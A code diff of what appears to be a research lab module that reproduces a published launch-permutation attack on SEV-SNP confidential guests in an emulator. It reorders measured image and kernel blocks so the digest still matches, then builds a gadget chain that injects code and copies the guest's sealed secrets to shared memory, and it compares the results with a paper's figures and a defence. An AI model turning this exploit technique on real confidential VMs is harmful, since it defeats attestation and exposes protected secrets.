@@ -4,88 +4,67 @@ from __future__ import annotations
 
 import itertools
 import struct
-from collections.abc import Sequence
+from collections.abc import Iterator, Sequence
+from typing import Final
 
+from cbit.attacks.experiments.code_injection import ASKS_FOR_NAME, OUT, ROUTINE
+from cbit.attacks.experiments.correspondent import Owner
+from cbit.attacks.experiments.known_constants import PARAMETERS, SETUP, kernel
 from cbit.attacks.lab.assemble import assemble
 from cbit.attacks.lab.attack import attack
-from cbit.attacks.lab.guest import CODE, CPUID, HLT, SECRET, SHARED, TABLES, VIEW, Guest, Program
+from cbit.attacks.lab.built_in import KERNEL, BuiltIn
+from cbit.attacks.lab.guest import CPUID, HLT
 from cbit.attacks.lab.hands import Hands
 from cbit.attacks.lab.log import Log
 from cbit.attacks.lab.outcome import SUCCEEDS, Mode, does_not_apply, stopped_by, succeeds
 from cbit.attacks.lab.scene import Facts, Scene
 from cbit.attacks.lab.stand import Stand
+from cbit.attacks.lab.tools import Thwarted
 from cbit.attacks.power import Power
+from cbit.guest.builtin.image import image
+from cbit.guest.builtin.interface import IMAGE, MEMORY, SECRET, SHARED_AT, SHARED_PAGE, SHOWN
 from cbit.owner.measure.snp import Chain
 from cbit.spec.address import BLOCK, PAGE
 from cbit.spec.errors import BadMeasurement
 
-#: A start-up path of aligned pieces, and further on some routines as any firmware has them: one that switches
-#: stacks, ends of functions that restore registers, a store through a pointer.
-FIRMWARE = """
-    jmp start
-.p2align 4, 0x90
-start:
-    mov eax, 1
-    cpuid
-    jmp next
-.p2align 4, 0x90
-next:
-    mov r15d, eax
-    jmp work
-.p2align 4, 0x90
-work:
-    hlt
-    jmp work
-.org 0x2340, 0x90
-switch_stack:
-    mov rsp, rcx
-    ret
-.p2align 4, 0x90
-.org 0x3450, 0x90
-    pop rax
-    ret
-.org 0x3460, 0x90
-    pop rdx
-    ret
-.org 0x3470, 0x90
-    mov [rax], rdx
-    ret
-.org 0x3ff0, 0x90
-    nop
-"""
-NEXT, SWITCH_STACK = CODE + 0x20, CODE + 0x2340
-POP_RAX, POP_RDX, STORE = CODE + 0x3450, CODE + 0x3460, CODE + 0x3470
-INJECTED = 0x28000  #: where the adversary's code is written, eight bytes at a time
-STACK = VIEW + SHARED + PAGE  #: linear address of the stack that the host can write
+Pieces = Sequence[tuple[int, bytes]]
+
+#: What the adversary wants to find: it begins a block, or it lies in one.
+SWITCH_STACK: Final = bytes.fromhex("94 c3")  # xchg esp, eax; ret
+POP_RAX, POP_RDI = bytes.fromhex("58 c3"), bytes.fromhex("5f c3")
+#: stosq; ret, which a kernel of 8 MiB has with luck; stosd; ret, which it has for certain.
+STORES: Final = {8: bytes.fromhex("48 ab c3"), 4: bytes.fromhex("ab c3")}
+INJECTED: Final = MEMORY + 0x16000  #: where the adversary's code is written; the guest leaves it alone
+STACK: Final = SHARED_AT + 0x800  #: linear address of the stack that the host can write
 
 #: The published copy gadget.
-COPY = "pop rsi; pop rdi; pop rcx; rep movsb; hlt"
+COPY: Final = "pop rsi; pop rdi; pop rcx; rep movsb; hlt"
 
 
 def firmware(stand: Stand) -> Scene:
-    """Hand the host an image whose owner knows its digest; the host launches it."""
-    secret = stand.entropy.draw(32)
-    program = Program(FIRMWARE, data=((INJECTED, bytes(PAGE)),))
-    image = program.image(c_bit=39)
+    """Hand the host the built-in guest's image and a kernel; their owner knows the digest."""
+    owner, known = Owner.of(stand), kernel(stand)
+    whole = [(IMAGE, image()), (KERNEL, known)]
 
-    def launch(pieces: Sequence[tuple[int, bytes]]) -> Guest:
-        if stand.variant == "addresses" and _with_addresses(pieces) != _with_addresses([(TABLES, image)]):
+    def launch(pieces: Pieces) -> BuiltIn:
+        if stand.variant == "addresses" and _with_addresses(pieces, whole) != _with_addresses(whole, whole):
             raise BadMeasurement("a digest that covers addresses: something lies where it should not")
-        guest = stand.guest(program, secret=secret, pieces=pieces)
-        assert guest.peek(SECRET, len(secret)) == secret
+        guest = stand.built_in(owner.table, kernel=known, pieces=pieces)
+        assert owner.gave(guest)
         return guest
 
-    return Scene((secret,), Facts({"image": image}), launcher=launch)
+    return Scene(owner.secrets, Facts({"image": image(), "kernel": known}), launcher=launch)
 
 
-def _with_addresses(pieces: Sequence[tuple[int, bytes]]) -> bytes:
+def _with_addresses(pieces: Pieces, whole: Pieces) -> bytes:
     """The digest that SNP's firmware would make of the same memory: page by page, with its address."""
-    end = max(at + len(data) for at, data in pieces)
-    memory = bytearray(-(-end // PAGE) * PAGE)
+    regions = {start: bytearray(len(data)) for start, data in whole}
     for at, data in pieces:
-        memory[at : at + len(data)] = data
+        start = max(region for region in regions if region <= at)
+        regions[start][at - start : at - start + len(data)] = data
     chain = Chain()
-    chain.add_data(TABLES, bytes(memory[TABLES:]))
+    for start, contents in regions.items():
+        chain.add_data(start, bytes(contents))
     return chain.digest
 
 
@@ -105,65 +84,136 @@ _UNMEASURED = does_not_apply("nothing is measured: the host loads what it likes"
     },
     defences={"addresses": "a digest that covers addresses, as SNP's does: the owner gives no secret"},
     victim=firmware,
+    setup=SETUP,
+    parameters=PARAMETERS,
 )
 def launch_permutation(hands: Hands, facts: Facts, log: Log) -> bytes:
-    """Launch the owner's image with two blocks exchanged, and turn its start-up into a chain of pieces.
+    """Launch the owner's image with blocks exchanged, and turn its start-up into a chain of pieces.
 
-    1. LAUNCH_UPDATE_DATA is called in the original order of the plaintext, with a block of the start-up path
-       and "switch the stack to rCX, return" at each other's addresses.  The digest is the one that the owner
-       expects, and the secret is sealed for this guest.
-    2. At the CPUID of the start-up the host answers with an address in shared memory.  That is the stack now.
-    3. Chains of three pieces (pop rax; pop rdx; mov [rax], rdx) write eight bytes each to private memory.
-    4. A return into what was written: fetches are private whatever the C-bit says.  It copies the secret out.
+    1. A compressed kernel, or the code of a large firmware, has every short piece of code somewhere.  Blocks
+       of it change places with blocks of the image: "exchange rSP and rAX, return" goes to the start-up path,
+       behind a CPUID; ends of functions that restore registers or store them go where text was.
+    2. LAUNCH_UPDATE_DATA is called in the original order of the plaintext, so the digest is the one that the
+       owner expects, and the secrets are sealed for this guest.
+    3. At that CPUID the host answers with an address in shared memory.  It is the stack now.
+    4. Chains of three pieces (pop rdi; pop rax; stosq) write to private memory.
+    5. A return into what was written: fetches are private whatever the C-bit says.  It copies them out.
     """
-    image = facts.data("image")
-    pieces = _exchanged(image, NEXT - TABLES, SWITCH_STACK - TABLES)
+    layout = _Layout(facts.data("image"), facts.data("kernel"))
+    layout.begin_block(IMAGE + layout.image.index(ROUTINE) + BLOCK, SWITCH_STACK)
+    pop_rax, pop_rdi = map(layout.anywhere, (POP_RAX, POP_RDI))
+    size = next((size for size, code in STORES.items() if layout.has(code)), 4)
+    store = layout.anywhere(STORES[size])
+    pieces = layout.pieces()
     hands.launch(pieces)
     log.step(
-        f"launched in {len(pieces)} pieces, the blocks of {NEXT:#x} and {SWITCH_STACK:#x} exchanged:"
-        " the owner finds its digest and seals the secret"
+        f"launched in {len(pieces)} pieces, {len(layout.places)} blocks at other places: the owner finds its"
+        f" digest and seals the secrets; pop rax at {pop_rax:#x}, pop rdi at {pop_rdi:#x}, a store of {size}"
+        f" bytes at {store:#x}"
     )
-    blocks = len(image) // BLOCK
     log.figure(
         "16-byte blocks that can be placed at will",
-        blocks,
+        (len(layout.image) + len(layout.kernel)) // BLOCK,
         published="230 000 blocks for a 3.5 MB OVMF",
         source="undeSErVed trust §V-B (attacks.md A11)",
-        difference="a small image",
+        difference="a small image, and a kernel of 8 MiB that is measured with it",
     )
-    hands.victim.until(CPUID)
     code = assemble(COPY, INJECTED)
-    code += bytes(-len(code) % 8)
+    code += bytes(-len(code) % size)
     chain = b""
-    for at in range(0, len(code), 8):
-        chain += struct.pack("<4Q", POP_RAX, INJECTED + at, POP_RDX, *struct.unpack("<Q", code[at : at + 8]))
-        chain += struct.pack("<Q", STORE)
-    out = VIEW + SHARED + 2 * PAGE
-    chain += struct.pack("<4Q", INJECTED, SECRET, out, 32)
-    hands.memory.write(hands.memory.spa(SHARED + PAGE), chain)
+    for at in range(0, len(code), size):
+        word = int.from_bytes(code[at : at + size], "little")
+        chain += struct.pack("<5Q", pop_rdi, INJECTED + at, pop_rax, word, store)
+    chain += struct.pack("<4Q", INJECTED, SECRET, OUT, PAGE)
+    hands.memory.write(hands.memory.spa(STACK - SHARED_AT + SHARED_PAGE), chain)
     log.step("the chain in shared memory", chain)
     log.figure(
         "bytes written by each chain of three pieces",
-        8,
+        size,
         "bytes",
         published="8, 3-gadget chain",
         source="undeSErVed trust §V-C (attacks.md A11)",
     )
-    hands.emulation["rax"], hands.emulation["rcx"] = 0, STACK
+    exits = 1
+    exit = hands.victim.until(CPUID)
+    while hands.emulation["rax"] != ASKS_FOR_NAME:
+        hands.victim.go_on(exit)
+        exit, exits = hands.victim.until(CPUID), exits + 1
+    hands.emulation["rax"] = STACK
     hands.victim.skip(2)
-    log.step(
-        f"CPUID is answered with rCX = {STACK:#x}, and the victim goes on to the block that is there now"
-    )
+    log.step(f"CPUID number {exits} is answered with rAX = {STACK:#x}; the block behind it is another one")
     hands.victim.until(HLT)
-    loot = hands.memory.read(hands.memory.spa(SHARED + 2 * PAGE), 32)
-    log.step("the secret, copied to shared memory by the victim", loot)
+    loot = hands.memory.read(hands.memory.spa(SHOWN, PAGE), PAGE)
+    log.step("the secrets, copied to shared memory by the victim", loot)
     return loot
 
 
-def _exchanged(image: bytes, first: int, second: int) -> list[tuple[int, bytes]]:
-    """Cut an image so that two of its blocks lie at each other's places, in the order of the original."""
-    cuts = [0, first, first + BLOCK, second, second + BLOCK, len(image)]
-    places = {first: second, second: first}
-    return [
-        (TABLES + places.get(start, start), image[start:stop]) for start, stop in itertools.pairwise(cuts)
-    ]
+class _Layout:
+    """Which blocks of what is launched change places.
+
+    Mutable.
+
+    Attributes:
+        image: the built-in guest's.
+        kernel: what is measured behind it.
+        places: where a block goes, by where its owner means it to be.
+    """
+
+    def __init__(self, image: bytes, kernel: bytes) -> None:
+        self.image, self.kernel = image, kernel
+        self.places: dict[int, int] = {}
+        self._text = iter(range(IMAGE + PAGE, IMAGE + 2 * PAGE, BLOCK))  # nothing refers to it
+
+    def _places_of(self, code: bytes) -> Iterator[tuple[int, int]]:
+        """Where a piece of code lies inside one block that is still at its place: block and offset."""
+        for start, data in ((IMAGE, self.image), (KERNEL, self.kernel)):
+            at = data.find(code)
+            while at >= 0:
+                block, offset = start + (at & -BLOCK), at % BLOCK
+                if offset + len(code) <= BLOCK and block not in self.places:
+                    yield block, offset
+                at = data.find(code, at + 1)
+
+    def _exchange(self, target: int, block: int) -> None:
+        self.places |= {target: block, block: target}
+
+    def has(self, code: bytes) -> bool:
+        """Whether a piece of code can be had at all."""
+        return any(True for _ in self._places_of(code))
+
+    def begin_block(self, target: int, code: bytes) -> None:
+        """Let a block of the image begin with a piece of code.
+
+        Raises:
+            Thwarted: no block does.
+        """
+        for block, offset in self._places_of(code):
+            if offset == 0:
+                return self._exchange(target, block)
+        raise Thwarted(f"no block begins with {code.hex()}")
+
+    def anywhere(self, code: bytes) -> int:
+        """Say where the guest finds a piece of code; what is in the kernel changes places with text.
+
+        Raises:
+            Thwarted: it is nowhere.
+        """
+        for block, offset in self._places_of(code):
+            if block >= IMAGE:
+                return block + offset
+            target = next(self._text)
+            self._exchange(target, block)
+            return target + offset
+        raise Thwarted(f"{code.hex()} is nowhere")
+
+    def pieces(self) -> Pieces:
+        """Cut image and kernel: blocks lie at each other's places, the order is that of the original."""
+        cut = []
+        for start, data in ((IMAGE, self.image), (KERNEL, self.kernel)):
+            edges = {start, start + len(data)}
+            for block in self.places:
+                if start <= block < start + len(data):
+                    edges |= {block, block + BLOCK}
+            for at, end in itertools.pairwise(sorted(edges)):
+                cut.append((self.places.get(at, at), data[at - start : end - start]))
+        return cut
